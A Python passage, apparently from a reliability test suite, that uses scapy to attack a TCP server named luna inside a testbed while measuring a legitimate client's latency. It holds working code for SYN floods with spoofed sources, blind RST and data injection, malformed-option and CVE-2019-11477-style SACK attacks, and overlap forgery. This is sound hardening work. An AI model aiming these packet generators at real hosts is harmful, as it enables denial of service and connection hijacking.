#!/usr/bin/python3
"""Attack suite against a luna server over tap (docs/reliability.md).

Runs in the tap topology's kernel namespace, with Debian's python3-scapy (run it with
/usr/bin/python3: a pyenv python on PATH lacks scapy). A legitimate kernel client keeps
doing knb echo RPCs (4 KiB, one connection, every byte checked) through every phase while
scapy sends one kind of hostile traffic per phase. Every loop is bounded in packets and in
time; all traffic goes to the luna server's address inside the testbed namespace.

usage: attack.py SERVER_IP PORT IFACE PHASE_SECONDS OUT_JSON STOP_FILE [--reps K] [PHASE ...]
Without --reps the phases run once each, as listed (default: ALL_PHASES). With --reps K
the PHASEs are attacks (default: every attack) and the run is K repetitions of
`baseline, attack` for each, then a last baseline (testbed/attack/interleave.py): every
attack phase has its own baselines on both sides, and the report has one verdict per
attack (p99 against its neighbouring baselines: "within 2x", "not within 2x" or
"inconclusive (...)"). Environment: LUNA_ATTACK_PIN (default 1: this process, the
legitimate client and the sniffer on CPU 1; 0: unpinned), LUNA_ATTACK_NICE (idle or a
nice value, the attacker only), LUNA_ATTACK_MIN_SAMPLES (1000), LUNA_ATTACK_SPREAD_MAX
(1.5), LUNA_ATTACK_SERVER_PID (the server, for its CPU time and affinity),
LUNA_ATTACK_SPIN (0; 1: a SCHED_IDLE busy loop on the attacker's CPU through every phase,
so that CPU never idles in a baseline either; docs/reliability.md).
LUNA_ATTACK_PHASE_FILE: a file this script rewrites with `<step index> <phase>` as each
phase starts and `end` after the last, so the server can report its counters per phase.
Writes OUT_JSON (per phase: RPCs, p50/p99 latency, packets sent, replies seen, CPU
seconds by process; with --reps the per-attack summary), then creates STOP_FILE so the
server ends. Exit status 0 when the legitimate connection survived every phase with every
reply correct, else 1. Latency verdicts are reported, never turned into the exit status.
"""

import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import interleave  # noqa: E402  (this directory)

if sys.argv[1:2] != ["--legit"]:  # the legitimate client's process needs no scapy
    from scapy.all import (  # noqa: E402  (scapy prints warnings at import)
        IP,
        TCP,
        AsyncSniffer,
        Ether,
        Raw,
        conf,
        fragment,
        get_if_hwaddr,
        sendp,
    )

    conf.verb = 0
MAGIC = 0x6E6B
HDR = struct.Struct("<QIHH")
RPC_LEN = 4096

ALL_PHASES = [
    "baseline",
    "synflood",
    "blind_rst",
    "blind_syn",
    "blind_data",
    "rst_ack_storm",
    "bad_checksums",
    "malformed_options",
    "ip_options_fragments",
    "sack_abuse_mss48",
    "ack_unsent",
    "paws",
    "overlap_diff_data",
    "seq_wrap",
    "baseline_after",
]
# A phase in which the server's threads waited for a CPU at least STARVED_WAIT of the
# time, or the server ran less than STARVED_CPU of it, was starved by the machine (see
# run(): a phase without RPCs is then not a failure if the next one has some).
STARVED_WAIT = 0.5
STARVED_CPU = 0.05
# The attacks (what --reps interleaves with baselines).
ALL_ATTACKS = [p for p in ALL_PHASES if not p.startswith("baseline")]


def pat(i, n):
    return bytes(((i * 131 + k) & 0xFF) for k in range(n))


def legit_main(ip, port):
    """The legitimate client, in its own process (`attack.py --legit IP PORT`): one kernel
    connection doing echo RPCs back to back (with a 1 ms pause) until stdin closes or says
    `stop`. It shares no interpreter (GIL) with scapy's sender and sniffer, as a real
    client would not. Prints `READY <local port>`, `ERROR <text>` at once on an error, and
    at the end `SAMPLES <json [[send time, latency], ...]>` (time.monotonic(), which is
    CLOCK_MONOTONIC: comparable with the attacker's clock) and `DONE <json errors>`."""
    end = time.time() + 30
    while True:
        try:
            s = socket.create_connection((ip, port), timeout=5)
            break
        except OSError:
            if time.time() > end:
                raise
            time.sleep(0.1)
    s.settimeout(10)
    print("READY", s.getsockname()[1], flush=True)
    stop = threading.Event()

    def watch():
        for line in sys.stdin:
            if line.strip() == "stop":
                break
        stop.set()

    threading.Thread(target=watch, daemon=True).start()
    payloads = {i: pat(i, RPC_LEN) for i in range(64)}
    samples, errors = [], []
    i = 0
    try:
        while not stop.is_set():
            body = payloads[i % 64]
            t0 = time.monotonic()
            s.sendall(HDR.pack(i, RPC_LEN, 0, MAGIC) + body)
            want = HDR.pack(i, RPC_LEN, 1, MAGIC) + body
            buf = bytearray()
            while len(buf) < len(want):
                d = s.recv(len(want) - len(buf))
                if not d:
                    raise OSError("connection closed by the server")
                buf += d
            if bytes(buf) != want:
                raise OSError(f"reply {i} differs (injected data accepted?)")
            samples.append((round(t0, 6), round(time.monotonic() - t0, 7)))
            i += 1
            time.sleep(0.001)
    except OSError as e:
        errors.append(str(e))
        print("ERROR", str(e), flush=True)
    if not errors:
        try:
            s.shutdown(socket.SHUT_WR)
            s.recv(1)
            s.close()
        except OSError as e:
            errors.append(f"close: {e}")
    print("SAMPLES", json.dumps(samples), flush=True)
    print("DONE", json.dumps(errors), flush=True)


class Legit:
    """The legitimate client's process (see legit_main), seen from the attacker."""

    def __init__(self, ip, port):
        self.p = subprocess.Popen([sys.executable, __file__, "--legit", ip, str(port)],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        first = self.p.stdout.readline().split()
        if len(first) != 2 or first[0] != "READY":
            raise RuntimeError(f"legitimate client did not connect: {first}")
        self.local_port = int(first[1])
        self.errors = []
        self.samples = []
        self.done = threading.Event()
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        for line in self.p.stdout:
            kind, _, rest = line.partition(" ")
            if kind == "ERROR":
                self.errors.append(rest.strip())
            elif kind == "SAMPLES":
                self.samples = [tuple(x) for x in json.loads(rest)]
            elif kind == "DONE":
                for e in json.loads(rest):
                    if e not in self.errors:
                        self.errors.append(e)
        self.done.set()

    def finish(self, timeout):
        try:
            self.p.stdin.write("stop\n")
            self.p.stdin.close()
        except OSError:
            pass
        if not self.done.wait(timeout):
            self.errors.append("legitimate client did not finish")
            self.p.kill()
        self.p.wait(5)

    def window(self, a, b):
        return [lat for (t, lat) in self.samples if a <= t < b]


def machine_cpu():
    """Machine-wide CPU seconds so far: (busy, softirq, idle) summed over every CPU."""
    v = [int(x) for x in open("/proc/stat").readline().split()[1:]]
    user, nice, system, idle, iowait, irq, softirq, steal = (v + [0] * 8)[:8]
    hz = os.sysconf("SC_CLK_TCK")
    return ((user + nice + system + irq + softirq + steal) / hz, softirq / hz, (idle + iowait) / hz)


class CpuMeter:
    """Per phase CPU seconds: the attacker process (scapy's sender and sniffer), the
    legitimate client's process, the server's process (its pid from
    LUNA_ATTACK_SERVER_PID, when given) and the machine (busy, of which softirq, idle)."""

    def __init__(self, legit_pid):
        self.pids = {"legit": legit_pid}
        srv = os.environ.get("LUNA_ATTACK_SERVER_PID")
        if srv:
            self.pids["server"] = int(srv)

    def read(self):
        t = os.times()
        r = {"attacker": t.user + t.system}
        for k, pid in self.pids.items():
            r[k] = interleave.proc_cpu(pid)
        if "server" in self.pids:
            # How long the server's threads waited for a CPU (per phase: the longest of
            # them; a busy poller that waits was starved by the machine, not stalled).
            r["server_runqueue_wait"] = interleave.runqueue_wait(self.pids["server"])
        r["machine_busy"], r["machine_softirq"], r["machine_idle"] = machine_cpu()
        return r

    @staticmethod
    def delta(a, b):
        out = {}
        for k in a:
            if k == "server_runqueue_wait":
                out[k] = interleave.runqueue_wait_delta(a[k], b[k])
            else:
                out[k] = None if a[k] is None or b[k] is None else round(b[k] - a[k], 3)
        return out


def pct(v, q):
    if not v:
        return None
    v = sorted(v)
    return v[min(len(v) - 1, int(q * len(v)))]


class Ctx:
    def __init__(self, ip, port, iface, secs, legit):
        self.ip, self.port, self.iface, self.secs, self.legit = ip, port, iface, secs, legit
        self.mac = get_if_hwaddr(iface)
        self.me = subprocess.run(
            ["ip", "-4", "-o", "addr", "show", "dev", iface], capture_output=True, text=True
        ).stdout.split()[3].split("/")[0]
        self.peer_mac = None
        self.last = None  # last luna -> legit segment (seq, ack, window)
        self.ts = None  # the client's TSval as luna last echoed it
        self.sniffer = AsyncSniffer(iface=iface, filter=f"tcp and src host {ip}", prn=self.seen, store=False)
        self.replies = {"ack": 0, "rst": 0, "synack": 0, "other": 0}

    def seen(self, p):
        if TCP not in p:
            return
        t = p[TCP]
        if self.peer_mac is None:
            self.peer_mac = p[Ether].src
        if t.sport == self.port and t.dport == self.legit.local_port:
            self.last = (t.seq, t.ack, t.window)
            for name, val in t.options:
                if name == "Timestamp":
                    # luna's TSecr echoes the client's latest TSval: using it as our TSval
                    # passes PAWS, so the segment reaches the RFC 5961 checks.
                    self.ts = val[1]
        f = int(t.flags)
        if f & 0x04:
            self.replies["rst"] += 1
        elif f & 0x12 == 0x12:
            self.replies["synack"] += 1
        elif f & 0x10:
            self.replies["ack"] += 1
        else:
            self.replies["other"] += 1

    def eth(self):
        return Ether(src=self.mac, dst=self.peer_mac or "ff:ff:ff:ff:ff:ff")

    def send(self, pkts):
        sendp(pkts, iface=self.iface)
        return len(pkts)

    def until_done(self, make_batch, limit):
        """Sends batches from make_batch() until the phase time or `limit` packets."""
        end, n = time.time() + self.secs, 0
        while time.time() < end and n < limit:
            n += self.send(make_batch())
        left = end - time.time()
        if left > 0:
            time.sleep(left)
        return n


def legit_tuple(c):
    for _ in range(200):
        if c.last:
            return c.last
        time.sleep(0.01)
    raise RuntimeError("never saw the legitimate connection's segments")


def spoofed_sources(c, n):
    net = c.ip.rsplit(".", 1)[0]
    used = {c.ip, c.me}
    out = []
    while len(out) < n:
        a = f"{net}.{random.randint(10, 250)}"
        if a not in used:
            out.append(a)
    return out


def ph_baseline(c):
    time.sleep(c.secs)
    return 0


ph_baseline_after = ph_baseline


def ph_synflood(c):
    srcs = spoofed_sources(c, 64)

    def batch():
        return [
            c.eth() / IP(src=random.choice(srcs), dst=c.ip)
            / TCP(sport=random.randint(1024, 65535), dport=c.port, flags="S", seq=random.getrandbits(32),
                  options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (random.getrandbits(32), 0)), ("WScale", 7)])
            for _ in range(200)
        ]

    return c.until_done(batch, 200_000)


def in_window_offsets():
    # Inside the window yet never an exact RCV.NXT. The attacker's view of RCV.NXT lags
    # (scapy's sniffer is slow) by some RPCs, and by more since the legitimate client runs
    # in its own process (faster than the sniffer: one reduced run saw every RST land below
    # RCV.NXT at 5 RPCs ahead), so aim 5 to 40 RPCs (x 4,112 bytes) ahead, well inside
    # luna's 1 MiB receive window; the client's segment boundaries relative to any observed
    # RCV.NXT are 0, 1,216, 1,448, 2,664 or 2,896 modulo 4,112 (MSS 1,448, 4,112-byte
    # messages), and these offsets are 3..11 modulo 4,112: never a legal reset.
    return [k * 4112 + o for k in (5, 10, 20, 40) for o in (3, 7, 11)]


def ph_blind_rst(c):
    seq, ack, win = legit_tuple(c)

    def batch():
        _, ack, win = c.last
        return [
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="R", seq=(ack + o) & 0xFFFFFFFF)
            for o in in_window_offsets()
        ]

    return c.until_done(batch, 5_000)


def ph_blind_syn(c):
    legit_tuple(c)

    def batch():
        return [
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="S", seq=random.getrandbits(32))
            for _ in range(5)
        ]

    return c.until_done(batch, 5_000)


def ph_blind_data(c):
    legit_tuple(c)

    def batch():
        seq, ack, win = c.last
        junk = Raw(b"X" * 64)
        # 100 ms ahead of the client's clock as luna last echoed it: passes PAWS despite
        # the sniffer's lag (and if luna wrongly took it as TS.Recent, the legitimate
        # client would stall for 100 ms: visible in the phase's p99).
        ts = [("Timestamp", (((c.ts or 0) + 100) & 0xFFFFFFFF, 0))]
        # In the window despite the sniffer's lag (see in_window_offsets): if luna queued
        # this data, the legitimate client's echo would come back with X's in it.
        ahead = in_window_offsets()[0]
        return [
            # RFC 5961 §5.2: an ACK beyond SND.NXT (unsent data) -> dropped, challenge ACK.
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="PA", seq=(ack + ahead) & 0xFFFFFFFF, ack=(seq + 10_000_000) & 0xFFFFFFFF, options=ts) / junk,
            # An ACK too old (before SND.UNA - MAX.SND.WND) -> dropped.
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="PA", seq=(ack + ahead) & 0xFFFFFFFF, ack=(seq - 2_000_000_000) & 0xFFFFFFFF, options=ts) / junk,
            # Old data below RCV.NXT -> acknowledged, never delivered.
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="PA", seq=(ack - 100_000) & 0xFFFFFFFF, ack=seq, options=ts) / junk,
        ]

    return c.until_done(batch, 6_000)


def ph_rst_ack_storm(c):
    legit_tuple(c)
    srcs = spoofed_sources(c, 16)

    def batch():
        _, ack, _ = c.last
        out = []
        for _ in range(20):
            out.append(c.eth() / IP(src=c.me, dst=c.ip)
                       / TCP(sport=c.legit.local_port, dport=c.port, flags="RA",
                             seq=(ack + random.randint(2_000_000, 4_000_000_000)) & 0xFFFFFFFF, ack=random.getrandbits(32)))
            out.append(c.eth() / IP(src=random.choice(srcs), dst=c.ip)
                       / TCP(sport=random.randint(1024, 65535), dport=c.port, flags="A",
                             seq=random.getrandbits(32), ack=random.getrandbits(32)))
        return out

    return c.until_done(batch, 40_000)


def ph_bad_checksums(c):
    legit_tuple(c)

    def batch():
        _, ack, _ = c.last
        return [
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="PA", seq=ack, ack=c.last[0], chksum=0xBEEF) / Raw(b"Y" * 32),
            c.eth() / IP(src=c.me, dst=c.ip, chksum=0x1234)
            / TCP(sport=c.legit.local_port, dport=c.port, flags="R", seq=ack),
            c.eth() / IP(src=c.me, dst=c.ip)
            / TCP(sport=random.randint(1024, 65535), dport=c.port, flags="S", chksum=0x0001),
        ]

    return c.until_done(batch, 6_000)


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def raw_syn(c, sport, opts, doff=None):
    """A SYN whose header carries `opts` as raw bytes (and optionally a lying data
    offset), with correct IP and TCP checksums, so only the options are wrong."""
    opts = opts + b"\x00" * (-len(opts) % 4)
    words = doff if doff is not None else (20 + len(opts)) // 4
    tcp = bytearray(struct.pack("!HHIIBBHHH", sport, c.port, random.getrandbits(32), 0,
                                (words & 0xF) << 4, 0x02, 65535, 0, 0) + opts)
    src = socket.inet_aton(c.me)
    dst = socket.inet_aton(c.ip)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp[16:18] = struct.pack("!H", csum(pseudo + bytes(tcp)))
    return c.eth() / IP(src=c.me, dst=c.ip, proto=6) / Raw(bytes(tcp))


def ph_malformed_options(c):
    # Each from its own source port; the kernel would RST luna's SYN-ACKs, harmless.
    cases = [
        b"\x02\x04\x00\x00",              # MSS 0
        b"\x02\x04\x00\x01",              # MSS 1
        b"\x02\x04\x05",                  # MSS option truncated by the header end
        b"\x03\x03\xff\x00",              # window scale 255
        b"\x08\x0a\x00\x00",              # timestamps with length 10 but 2 bytes left
        b"\x04\x03\x00\x00",              # SACK-permitted with length 3
        b"\x05\x00\x00\x00",              # SACK with length 0 (would loop)
        b"\xfe\x01\x00\x00",              # unknown option, length 1
        b"\xfe\x00\x00\x00",              # unknown option, length 0 (would loop)
        b"\x01" * 40,                     # 40 NOPs
        b"\x02\x04\x05\xb4" * 10,         # MSS ten times
    ]

    def batch():
        out = [raw_syn(c, random.randint(1024, 65535), o) for o in cases]
        out.append(raw_syn(c, random.randint(1024, 65535), b"", doff=3))   # offset below 5
        out.append(raw_syn(c, random.randint(1024, 65535), b"", doff=15))  # offset past the end
        return out

    return c.until_done(batch, 13 * 500)


def ph_ip_options_fragments(c):
    def batch():
        syn = IP(src=c.me, dst=c.ip) / TCP(sport=random.randint(1024, 65535), dport=c.port, flags="S",
                                           seq=random.getrandbits(32), options=[("MSS", 1460)]) / Raw(b"Z" * 64)
        frags = [c.eth() / f for f in fragment(syn, fragsize=24)]
        opt = c.eth() / IP(src=c.me, dst=c.ip, options=[b"\x07\x07\x04\x00\x00\x00\x00"]) \
            / TCP(sport=random.randint(1024, 65535), dport=c.port, flags="S", seq=random.getrandbits(32))
        return frags + [opt]

    return c.until_done(batch, 5_000)


class RawConn:
    """A TCP connection made by scapy (the kernel's RSTs for its port are dropped by an
    iptables rule for the phase)."""

    def __init__(self, c, mss, sack=True, isn=None, dport=None):
        self.c, self.sport = c, random.randint(20000, 29999)
        self.dport = c.port if dport is None else dport
        self.isn = random.getrandbits(32) if isn is None else isn
        self.got = []
        self.seen = 0  # packets of self.got already assembled by rpc()
        self.sn = AsyncSniffer(iface=c.iface, filter=f"tcp and src host {c.ip} and dst port {self.sport}",
                               prn=self.got.append, store=False)
        self.sn.start()
        time.sleep(0.2)
        opts = [("MSS", mss)] + ([("SAckOK", b"")] if sack else [])
        c.send([c.eth() / IP(src=c.me, dst=c.ip) / TCP(sport=self.sport, dport=self.dport, flags="S", seq=self.isn, options=opts)])
        end = time.time() + 3
        while time.time() < end and not any(int(p[TCP].flags) & 0x12 == 0x12 for p in self.got):
            time.sleep(0.01)
        sa = [p for p in self.got if int(p[TCP].flags) & 0x12 == 0x12]
        if not sa:
            raise RuntimeError("no SYN-ACK for the scapy connection")
        self.irs = sa[0][TCP].seq
        self.snd = (self.isn + 1) & 0xFFFFFFFF
        self.rcv = (self.irs + 1) & 0xFFFFFFFF
        self.seg(flags="A")

    def seg(self, flags="A", data=b"", ack=None, options=None):
        n = self.seg_at(self.snd, flags, data, ack, options)
        self.snd = (self.snd + len(data)) & 0xFFFFFFFF
        return n

    def seg_at(self, seq, flags="A", data=b"", ack=None, options=None):
        """One segment at `seq` (the connection's own SND.NXT unchanged)."""
        t = TCP(sport=self.sport, dport=self.dport, flags=flags, seq=seq & 0xFFFFFFFF,
                ack=self.rcv if ack is None else ack, window=65535, options=options or [])
        p = self.c.eth() / IP(src=self.c.me, dst=self.c.ip) / t
        if data:
            p = p / Raw(data)
        return self.c.send([p])

    def read_reply(self, want, secs=5.0):
        """Reads `want` bytes of the server's stream from RCV.NXT, acknowledging them as
        they come (the server's congestion window needs ACKs; a segment the sniffer missed
        comes back by retransmission). Returns the bytes, fewer if it stalled."""
        have = {}  # offset from `base` -> bytes
        out = bytearray()
        base = self.rcv
        end = time.time() + secs
        sent = 0
        while len(out) < want and time.time() < end:
            while self.seen < len(self.got):
                p = self.got[self.seen]
                self.seen += 1
                data = bytes(p[TCP].payload)
                off = (p[TCP].seq - base) & 0xFFFFFFFF
                if data and off < 1 << 30:
                    have.setdefault(off, data)
            before = len(out)
            progressed = True
            while progressed:
                progressed = False
                for off in sorted(have):
                    data = have[off]
                    if off <= len(out) < off + len(data):
                        out += data[len(out) - off:]
                        progressed = True
                    if off + len(data) <= len(out):
                        del have[off]
            if len(out) > before:
                self.rcv = (base + len(out)) & 0xFFFFFFFF
                sent += self.seg(flags="A")
            else:
                time.sleep(0.005)
        return bytes(out[:want]), sent

    def rpc(self, rid, body, mss=1400):
        """One echo RPC over this connection: the request in order, the reply read and
        checked byte for byte. Returns packets sent; raises on a wrong or missing reply."""
        req = HDR.pack(rid, len(body), 0, MAGIC) + body
        n = 0
        for k in range(0, len(req), mss):
            n += self.seg(flags="PA", data=req[k:k + mss])
        want = HDR.pack(rid, len(body), 1, MAGIC) + body
        got, acks = self.read_reply(len(want))
        if got != want:
            raise RuntimeError(f"rpc {rid}: {len(got)} of {len(want)} reply bytes"
                               + (", some differ" if got != want[:len(got)] else " (stalled)"))
        return n + acks

    def close(self):
        self.seg(flags="R")
        self.sn.stop()


def with_rst_filter(fn):
    def run(c):
        rule = ["OUTPUT", "-p", "tcp", "--tcp-flags", "RST", "RST", "-d", c.ip, "--sport", "20000:29999", "-j", "DROP"]
        subprocess.run(["iptables", "-I"] + rule, check=True)
        try:
            return fn(c)
        finally:
            subprocess.run(["iptables", "-D"] + rule, check=False)
    return run


@with_rst_filter
def ph_sack_abuse_mss48(c):
    # CVE-2019-11477/8/9 patterns: MSS 48, a large reply, ACKs whose SACK blocks cover every
    # other tiny segment, blocks above SND.NXT and wrapped blocks.
    n, end = 0, time.time() + c.secs
    while time.time() < end and n < 20_000:
        rc = RawConn(c, mss=48)
        req = HDR.pack(1, 60_000, 0, MAGIC) + bytes(60_000)
        for k in range(0, len(req), 1400):
            n += rc.seg(flags="PA", data=req[k:k + 1400])
        t_end = min(end, time.time() + 2)
        while time.time() < t_end and n < 20_000:
            base = rc.rcv
            blocks = [((base + 96 * i + 48) & 0xFFFFFFFF, (base + 96 * i + 96) & 0xFFFFFFFF) for i in range(4)]
            wild = [((base + 10_000_000) & 0xFFFFFFFF, (base + 10_000_048) & 0xFFFFFFFF),
                    ((base - 1_000_000) & 0xFFFFFFFF, (base + 48) & 0xFFFFFFFF)]
            for sack in (blocks[:4], wild, blocks[1:3] + wild[:1]):
                n += rc.seg(flags="A", options=[("NOP", None), ("NOP", None), ("SAck", tuple(x for b in sack for x in b))])
            rc.rcv = (rc.rcv + 48) & 0xFFFFFFFF  # creep the cumulative ACK slowly
            n += rc.seg(flags="A")
        rc.close()
    left = end - time.time()
    if left > 0:
        time.sleep(left)
    return n


@with_rst_filter
def ph_ack_unsent(c):
    n, end = 0, time.time() + c.secs
    while time.time() < end and n < 5_000:
        rc = RawConn(c, mss=1460)
        for k in range(50):
            n += rc.seg(flags="A", ack=(rc.rcv + 1_000_000 + k) & 0xFFFFFFFF)
        rc.close()
    left = end - time.time()
    if left > 0:
        time.sleep(left)
    return n


@with_rst_filter
def ph_paws(c):
    # Timestamps going backwards by more than 2^31 on a connection that negotiated them.
    n, end = 0, time.time() + c.secs
    while time.time() < end and n < 5_000:
        rc = RawConn(c, mss=1460)
        rc.got.clear()
        tsv = random.getrandbits(32)
        n += rc.seg(flags="A", options=[("Timestamp", (tsv, 0))])
        for k in range(30):
            n += rc.seg(flags="PA", data=b"Q" * 16, options=[("Timestamp", ((tsv - 0x8000_0000 - k) & 0xFFFFFFFF, 0))])
            rc.snd = (rc.snd - 16) & 0xFFFFFFFF
        rc.close()
    left = end - time.time()
    if left > 0:
        time.sleep(left)
    return n


@with_rst_filter
def ph_overlap_diff_data(c):
    """RFC 9293 §3.10.7.4, the overlap attack: in-window segments repeating bytes the
    server already holds (out of order, or below RCV.NXT) with different contents. The
    server must keep the first copy: each scapy connection's echo comes back byte-exact,
    and so do the legitimate client's (forged copies of its recent bytes, below the RCV.NXT
    the sniffer last saw, which lags the real one). The server counts them as
    `dup_bytes_in`."""
    n, end, rid = 0, time.time() + c.secs, 0
    legit_tuple(c)
    while rid == 0 or (time.time() < end and n < 5_000):
        rc = RawConn(c, mss=1460)
        body = bytes(((rid * 7 + k) & 0xFF) for k in range(4000))
        req = HDR.pack(rid, len(body), 0, MAGIC) + body  # 4,016 bytes
        base = rc.snd
        # Forged copies only ever cover bytes the server already holds: a forged byte
        # that is new data (in a gap, or beyond) is taken from whoever sends it first, in
        # any TCP, and is not this attack.
        order = [
            ("real", 2000, 3000),    # out of order: held
            ("forged", 2200, 2700),  # inside the held block
            ("forged", 2000, 3000),  # exactly over it
            ("real", 0, 1000),       # in order: RCV.NXT 1,000
            ("forged", 100, 900),    # below RCV.NXT
            ("forged", 0, 1000),     # the same bytes again
            ("real", 1000, 2000),    # fills the gap: RCV.NXT 3,000
            ("forged", 500, 3000),   # below RCV.NXT, across the old gap and block
            ("real", 3000, 4016),
            ("forged", 3500, 4016),  # below RCV.NXT
        ]
        for kind, a, b in order:
            for k in range(a, b, 1400):  # within the link's MTU
                e = min(b, k + 1400)
                data = req[k:e] if kind == "real" else b"X" * (e - k)
                n += rc.seg_at(base + k, flags="PA", data=data)
        rc.snd = (base + len(req)) & 0xFFFFFFFF
        want = HDR.pack(rid, len(body), 1, MAGIC) + body
        got, acks = rc.read_reply(len(want))
        n += acks
        rc.close()
        if got != want:
            raise RuntimeError(f"overlap rpc {rid}: {len(got)} of {len(want)} reply bytes"
                               + (", forged bytes taken" if got != want[:len(got)] else " (stalled)"))
        # The legitimate connection: 1,000 forged bytes ending 2,000 below the RCV.NXT
        # last seen (below the real one): old data with other contents.
        seq, ack, _ = c.last
        ts = [("Timestamp", (((c.ts or 0) + 100) & 0xFFFFFFFF, 0))]
        n += c.send([c.eth() / IP(src=c.me, dst=c.ip)
                     / TCP(sport=c.legit.local_port, dport=c.port, flags="PA", seq=(ack - 3000) & 0xFFFFFFFF,
                           ack=seq, options=ts) / Raw(b"X" * 1000) for _ in range(3)])
        rid += 1
    left = end - time.time()
    if left > 0:
        time.sleep(left)
    return n


# The attack server also listens on PORT + WRAP_PORT_OFFSET, a port no flood fills: a SYN
# flood leaves the main listener's backlog full for minutes (SYN-RECEIVED retries), and a
# connection made through a cookie has the cookie as its ISN, not the server's fixed one.
WRAP_PORT_OFFSET = 1
# How far below 2^32 both directions start (the server's ISN is its fixed_isn test knob).
WRAP_BELOW = 64 * 1024


@with_rst_filter
def ph_seq_wrap(c):
    """Sequence-number wraparound (RFC 9293 §3.4, arithmetic modulo 2^32) under load and
    attack: a connection whose ISNs sit just below 2^32 on both sides (ours chosen, the
    server's from its fixed_isn knob) does echo RPCs whose data crosses 2^32 in both
    directions while the legitimate client keeps its load and blind RSTs aimed inside the
    wrapped window (never at RCV.NXT exactly) must be challenged, not obeyed (RFC 5961
    §3.2). Every reply must come back byte-exact, without a stall."""
    n, end, rid = 0, time.time() + c.secs, 0
    while rid == 0 or (time.time() < end and n < 5_000):
        rc = RawConn(c, mss=1460, isn=(1 << 32) - 1500, dport=c.port + WRAP_PORT_OFFSET)
        below = ((1 << 32) - rc.rcv) & 0xFFFFFFFF
        if not 0 < below <= WRAP_BELOW:
            rc.close()
            raise RuntimeError(f"server ISN {rc.irs:#x} is not within {WRAP_BELOW} below 2^32 "
                               "(the attack server's fixed_isn knob)")
        crossed = [False, False]
        for k in range(3):
            # Blind RSTs inside the window around our (wrapped) SEQ, never exact.
            n += c.send([c.eth() / IP(src=c.me, dst=c.ip)
                         / TCP(sport=rc.sport, dport=rc.dport, flags="R", seq=(rc.snd + o) & 0xFFFFFFFF)
                         for o in (3, 1001, 7777)])
            s0, r0 = rc.snd, rc.rcv
            body = bytes(((rid * 13 + k + j) & 0xFF) for j in range(8000 + 4000 * k))
            n += rc.rpc(rid * 100 + k, body)
            crossed[0] |= rc.snd < s0
            crossed[1] |= rc.rcv < r0
        rc.close()
        if not all(crossed):
            raise RuntimeError(f"the data did not cross 2^32 both ways: {crossed}")
        rid += 1
    left = end - time.time()
    if left > 0:
        time.sleep(left)
    return n


def attacker_scheduling():
    """LUNA_ATTACK_PIN (default 1): this process (and so the legitimate client it starts
    and scapy's sniffer threads) on CPU 1, as a deployment keeps other work off the
    poller's core; the luna server's poller is EAL lcore 0 (`-l 0`: the whole DPDK process
    inherits CPU 0), the kernel server is pinned to CPU 0 by the test. LUNA_ATTACK_PIN=0
    leaves everything unpinned. LUNA_ATTACK_NICE=idle runs the attacker at SCHED_IDLE, a
    number at that nice level: modelling an attacker on another machine
    (docs/reliability.md); the legitimate client keeps the normal policy. Returns what was
    applied, for the report."""
    applied = {}
    pin = os.environ.get("LUNA_ATTACK_PIN", "1")
    if pin not in ("0", "1"):
        raise SystemExit(f"LUNA_ATTACK_PIN={pin!r}: 1 (pin to CPU 1, the default) or 0")
    if pin == "1" and os.cpu_count() and os.cpu_count() > 1:
        os.sched_setaffinity(0, {1})
        applied["pinned_cpu"] = 1
    else:
        applied["pinned_cpu"] = None
    return applied


def attacker_priority():
    """Lowers this process's priority (after the legitimate client started, so it keeps
    the normal one); every thread started later (scapy's sniffer) inherits it."""
    nice = os.environ.get("LUNA_ATTACK_NICE")
    if not nice:
        return {}
    if nice == "idle":
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    else:
        os.nice(int(nice))
    return {"attacker_nice": nice}


def parse_args(argv):
    """(ip, port, iface, secs, out, stop, reps or None, phase list)."""
    ip, port, iface, secs, out, stop = argv[:6]
    rest = argv[6:]
    reps = None
    if rest[:1] == ["--reps"]:
        if len(rest) < 2 or not rest[1].isdigit() or int(rest[1]) < 1:
            raise SystemExit("--reps needs a count of at least 1")
        reps, rest = int(rest[1]), rest[2:]
    for name in rest:
        if "ph_" + name not in globals():
            raise SystemExit(f"unknown phase {name!r} (phases: {' '.join(ALL_PHASES)})")
    if reps is not None:
        if any(n.startswith("baseline") for n in rest):
            raise SystemExit("with --reps the baselines are placed by the plan: name attacks only")
        steps = interleave.plan(rest or ALL_ATTACKS, reps)
    else:
        steps = [("baseline" if n.startswith("baseline") else "attack", n, 0) for n in (rest or ALL_PHASES)]
    return ip, int(port), iface, float(secs), out, stop, reps, steps


def announce(path, text):
    """Tells the server which phase runs (LUNA_ATTACK_PHASE_FILE), atomically."""
    if not path:
        return
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        f.write(text + "\n")
    os.replace(tmp, path)


def env_num(name, default, kind=float):
    v = os.environ.get(name)
    if v is None:
        return default
    try:
        return kind(v)
    except ValueError:
        raise SystemExit(f"{name}={v!r}: expected a number")


def main():
    if sys.argv[1:2] == ["--legit"]:
        return legit_main(sys.argv[2], int(sys.argv[3]))
    ip, port, iface, secs, out, stop, reps, steps = parse_args(sys.argv[1:])
    min_samples = env_num("LUNA_ATTACK_MIN_SAMPLES", interleave.MIN_SAMPLES, int)
    spread_max = env_num("LUNA_ATTACK_SPREAD_MAX", interleave.SPREAD_MAX)
    sched = attacker_scheduling()
    spinner = None
    spin = os.environ.get("LUNA_ATTACK_SPIN", "0")
    if spin not in ("0", "1"):
